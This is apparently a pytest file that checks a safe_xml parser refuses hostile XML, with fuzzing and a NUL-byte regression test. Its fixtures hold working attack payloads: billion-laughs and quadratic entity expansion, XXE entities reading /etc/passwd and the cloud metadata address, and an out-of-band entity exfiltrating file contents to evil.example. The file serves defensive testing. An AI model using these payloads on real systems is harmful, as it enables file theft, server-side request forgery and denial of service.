"""Hostile XML against safe_xml (see hostile_inputs.py)."""

import codecs
import time

import pytest
from hostile_inputs import (
    FUZZ,
    MB,
    expect,
)
from hypothesis import given
from hypothesis import strategies as st

from lib import (
    safe_xml,
)

# -- safe XML --------------------------------------------------------------------------

LOL = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""
QUADRATIC = (
    b'<!DOCTYPE a [<!ENTITY x "'
    + b"x" * 50_000
    + b'">]><a>'
    + b"&x;" * 50_000
    + b"</a>"
)
CXML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">\n'
    b'<cXML payloadID="1@platform" timestamp="2026-11-26T09:00:00Z">'
    b'<Response><Status code="200" text="OK">&amp; &#233;</Status></Response></cXML>'
)
HOSTILE_XML = [
    LOL,
    LOL.replace(b"<lolz>", b"<!-- x --><lolz>"),
    LOL.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0"?><!-- x -->'),
    LOL.decode().encode("utf-16"),
    LOL.decode().encode("utf-16-le"),
    LOL.decode().encode("utf-32-le"),  # no BOM: starts like UTF-16 "<\x00"
    LOL.decode().encode("utf-32"),
    QUADRATIC,
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "expect://id">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY x PUBLIC "-//x//EN" "http://evil.example/x">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]><a/>',
    b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd">'
    b"<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM 'http://evil.example/?%f;'>\"> %e;]>"
    b"<a/>",
    b'<!DOCTYPE a SYSTEM "x.dtd" [<!ENTITY x "y">]><a>&x;</a>',
    b'<!DOCTYPE a PUBLIC "-//x//EN" "http://evil.example/a.dtd"><a/>',
    b'<!doctype a [<!ENTITY x "y">]><a>&x;</a>',
    b"<!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
    b'<!ENTITY x "y"><a/>',
    b"<!ELEMENT a ANY><a/>",
    b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a>&undeclared;</a>',
    b"<a>&undeclared;</a>",
    b"<a>&#0;</a>",
    b"<a>&#x110000;</a>",
    b"<a>&#xD800;</a>",
    b"<a>" * 101 + b"</a>" * 101,
    b"<a>" * 300 + b"</a>" * 300,
    b"<a>" * 10_000 + b"</a>" * 10_000,
    b"<a>" * 10_000,
    b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>',
    b'<?xml version="1.0" encoding="UTF-16"?><a/>',
    '<?xml version="1.0" encoding="UTF-8"?><a/>'.encode("utf-16"),
    b'<?xml version="1.0" encoding="US-ASCII"?><a>caf\xc3\xa9</a>',
    b'<?xml version="1.0" encoding="EBCDIC-US"?><a/>',
    b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>',
    "<a/>".encode("cp500"),
    codecs.BOM_UTF32_LE + "<a/>".encode("utf-32-le"),
    b"<a>\xff\xfe</a>",
    b"<a>\xc0\xaf</a>",
    b"<a>\x00</a>",
    b"\x00<a/>",
    b"<a/><b/>",
    b"text only",
    b"",
    b"   \n",
    b"<",
    b"<a",
    b"<a><b></a></b>",
    b"<?xml",
    b"<!--",
    b"<!DOCTYPE",
    b"<a>" + b"x" * (safe_xml.DEFAULT_MAX_BYTES + 1) + b"</a>",
    # XInclude, truncated
    b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/>',
]
ACCEPTABLE_XML = [
    CXML,
    CXML.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    codecs.BOM_UTF8 + CXML,
    b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a>ok</a>',  # never loaded
    b'<!DOCTYPE a SYSTEM "http://169.254.169.254/x.dtd"><a>ok</a>',  # never fetched
    b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/></a>',  # never included
    b'<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>',
    b"<a><![CDATA[&x; <!DOCTYPE a [<!ENTITY x 'y'>]>]]></a>",
    b"<a><!-- <!DOCTYPE a [<!ENTITY x 'y'>]> --></a>",
    b'<a b="' + b"x" * MB + b'"/>',
    b"<a>" * 100 + b"</a>" * 100,
    "<a>\u202eevil\u200b =cmd|' /C calc'!A0 '; DROP TABLE x; --</a>".encode(),
]


def _parse(data):
    started = time.monotonic()
    try:
        root = safe_xml.parse(data)
    finally:
        assert time.monotonic() - started < 2, "too slow: expansion or network?"
    text = b"".join(
        part.encode("utf-8", "replace") if isinstance(part, str) else b""
        for part in root.itertext()
    )
    assert b"root:" not in text and b"lollol" not in text
    return root


@pytest.mark.parametrize("data", HOSTILE_XML, ids=range(len(HOSTILE_XML)))
def test_hostile_xml_is_refused_with_a_readable_reason(data):
    outcome = expect(_parse, safe_xml.UnsafeXMLError, data)
    assert isinstance(outcome, safe_xml.UnsafeXMLError), data[:120]


@pytest.mark.parametrize("data", ACCEPTABLE_XML, ids=range(len(ACCEPTABLE_XML)))
def test_harmless_xml_is_parsed_without_loading_anything(data):
    root = expect(_parse, safe_xml.UnsafeXMLError, data)
    assert not isinstance(root, safe_xml.UnsafeXMLError), str(root)


def test_every_truncation_of_a_valid_document_is_refused():
    for length in range(len(CXML)):
        outcome = expect(_parse, safe_xml.UnsafeXMLError, CXML[:length])
        assert isinstance(outcome, safe_xml.UnsafeXMLError), CXML[:length]


def test_text_instead_of_bytes_is_a_type_error():
    outcome = expect(_parse, TypeError, CXML.decode())
    assert isinstance(outcome, TypeError)


XML_TOKENS = [
    "<a>",
    "</a>",
    "<b x='1'>",
    "</b>",
    "<c/>",
    "text",
    "&amp;",
    "&x;",
    "&#65;",
    "&#0;",
    "<?xml version='1.0' encoding='utf-16'?>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE a ",
    "SYSTEM 'x.dtd'",
    "[",
    "]",
    ">",
    "<!ENTITY x 'y'>",
    "<!ENTITY % p SYSTEM 'http://evil.example/'>",
    "%p;",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?pi?>",
    "\x00",
    "\ufeff",
    "\u202e",
]


@FUZZ
@given(
    tokens=st.lists(st.sampled_from(XML_TOKENS), max_size=30),
    codec=st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-16-be", "latin-1"]),
)
def test_random_xml_never_crashes_the_parser(tokens, codec):
    data = "".join(tokens).encode(codec, errors="replace")
    expect(_parse, safe_xml.UnsafeXMLError, data)


@FUZZ
@given(data=st.binary(max_size=300))
def test_random_bytes_never_crash_the_xml_parser(data):
    expect(_parse, safe_xml.UnsafeXMLError, data)


def test_content_after_a_nul_byte_is_not_silently_dropped():
    """Fixed: XML forbids U+0000, but safe_xml.parse accepts a document with a
    NUL byte after the root element and libxml2 silently ignores everything
    after it: ``<a>x</a>\\x00<b>more</b>`` parses as ``<a>x</a>``. Another
    parser (or a person) sees a different document than the hub
    (lib/safe_xml.py ``_decode`` lets the NUL through)."""
    for data in (
        b"<a/>" + b"\x00" * 10,
        b"<a>x</a>\x00<b>more</b>",
        b"<a>x</a>\x00<!DOCTYPE a [<!ENTITY x 'y'>]>",
        "<a>x</a>\x00<b/>".encode("utf-16"),
    ):
        outcome = expect(_parse, safe_xml.UnsafeXMLError, data)
        assert isinstance(outcome, safe_xml.UnsafeXMLError), data
